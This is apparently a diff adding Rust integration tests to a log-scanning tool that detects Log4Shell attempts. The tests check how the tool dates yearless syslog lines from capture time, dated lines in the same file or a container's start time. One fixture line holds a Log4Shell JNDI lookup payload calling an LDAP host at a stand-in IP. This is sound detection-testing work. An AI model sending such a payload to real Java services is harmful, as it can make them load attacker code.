@@ -1298,3 +1298,81 @@ fn user_rule_files_fail_as_usage_and_broken_sigma_is_said() {
         );
     }
 }
+
+/// An RFC 3164 syslog file (no year) with a Log4Shell line, in a bundle folder; its mtime
+/// (the capture time) is set to `mtime` when given.
+fn syslog_bundle(dir: &std::path::Path, log: &str, mtime: Option<&str>) -> std::path::PathBuf {
+    let p = dir.join("var/log/auth.log");
+    write_files(dir, &[("var/log/auth.log", log.as_bytes())]);
+    if let Some(m) = mtime {
+        let t = chrono_free_secs(m);
+        let f = std::fs::File::options().write(true).open(&p).unwrap();
+        f.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(t)).unwrap();
+    }
+    p
+}
+
+/// `YYYY-MM-DD` at midnight UTC, in Unix seconds (days from the civil date).
+fn chrono_free_secs(day: &str) -> u64 {
+    let p: Vec<i64> = day.split('-').map(|x| x.parse().unwrap()).collect();
+    let (y, m, d) = if p[1] <= 2 { (p[0] - 1, p[1] + 9, p[2]) } else { (p[0], p[1] - 3, p[2]) };
+    let era = y.div_euclid(400);
+    let yoe = y - era * 400;
+    let doy = (153 * m + 2) / 5 + d - 1;
+    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
+    ((era * 146_097 + doe - 719_468) * 86_400) as u64
+}
+
+const SYSLOG_JNDI: &str = "Nov 27 14:00:00 web1 java[84010]: GET /?q=${jndi:ldap://203.0.113.9:1389/a} 404\n";
+
+/// The (time, time_basis) of the JNDI hit of the bundle's syslog file.
+fn syslog_hit(v: &serde_json::Value) -> (Option<String>, Option<String>) {
+    let h = v["bundles"][0]["log_hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|h| h["locator"]["artifact"].as_str().unwrap().ends_with("auth.log") && h["jndi"].is_object())
+        .unwrap_or_else(|| panic!("no JNDI hit in auth.log: {v}"));
+    (h["time"].as_str().map(String::from), h["time_basis"].as_str().map(String::from))
+}
+
+#[test]
+fn a_syslog_file_without_a_year_is_dated_from_its_capture_time_rolled_back() {
+    // Captured 2026-03-05: Nov 27 lies after it in 2026, so it is 2025's.
+    let dir = tempfile::tempdir().unwrap();
+    syslog_bundle(dir.path(), SYSLOG_JNDI, Some("2026-03-05"));
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    crate::util::validate_against_schema(&v);
+    assert_eq!(syslog_hit(&v), (Some("2025-11-27T14:00:00.000000000Z".into()), Some("capture-time".into())));
+    let diags = v["bundles"][0]["diagnostics"].to_string();
+    assert!(diags.contains("capture time"), "{diags}");
+    let out = run(&["scan", "--verbose", dir.path().to_str().unwrap()]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("syslog without a year, year from the log file's capture time"), "{text}");
+    // --syslog-year wins (the logs command).
+    let (v, _) =
+        run_json(&["logs", "--syslog-year", "2019", dir.path().join("var/log/auth.log").to_str().unwrap()]);
+    assert_eq!(syslog_hit(&v), (Some("2019-11-27T14:00:00.000000000Z".into()), Some("given".into())));
+}
+
+#[test]
+fn a_syslog_file_is_dated_from_its_own_lines_then_from_the_bundle() {
+    // A dated line in the same file: its year (Dec 31 2025 then Jan 1 2026 would roll on).
+    let dir = tempfile::tempdir().unwrap();
+    let log = format!("[27/Nov/2024:13:00:00 +0000] rotated\n{SYSLOG_JNDI}");
+    syslog_bundle(dir.path(), &log, Some("2026-03-05"));
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    assert_eq!(syslog_hit(&v), (Some("2024-11-27T14:00:00.000000000Z".into()), Some("same-file".into())));
+    // No dated line in it, but the bundle's container started 2023-12-01: Nov 27 is 2023's,
+    // whatever the file's mtime says.
+    let dir = tempfile::tempdir().unwrap();
+    syslog_bundle(dir.path(), SYSLOG_JNDI, Some("2026-03-05"));
+    let inspect = r#"[{"Id": "4f2a9c1be0d3aa55e0f1c2d3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f3a2b", "Name": "/web",
+        "Created": "2023-11-01T10:00:00Z", "Path": "java", "Args": [],
+        "State": {"Running": true, "StartedAt": "2023-12-01T10:00:00Z", "FinishedAt": "0001-01-01T00:00:00Z"},
+        "Image": "sha256:aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44",
+        "HostConfig": {}, "Mounts": [], "Config": {"Image": "app", "Cmd": ["java"]}}]"#;
+    write_files(dir.path(), &[("inspect.json", inspect.as_bytes())]);
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    assert_eq!(syslog_hit(&v), (Some("2023-11-27T14:00:00.000000000Z".into()), Some("bundle".into())));
+}
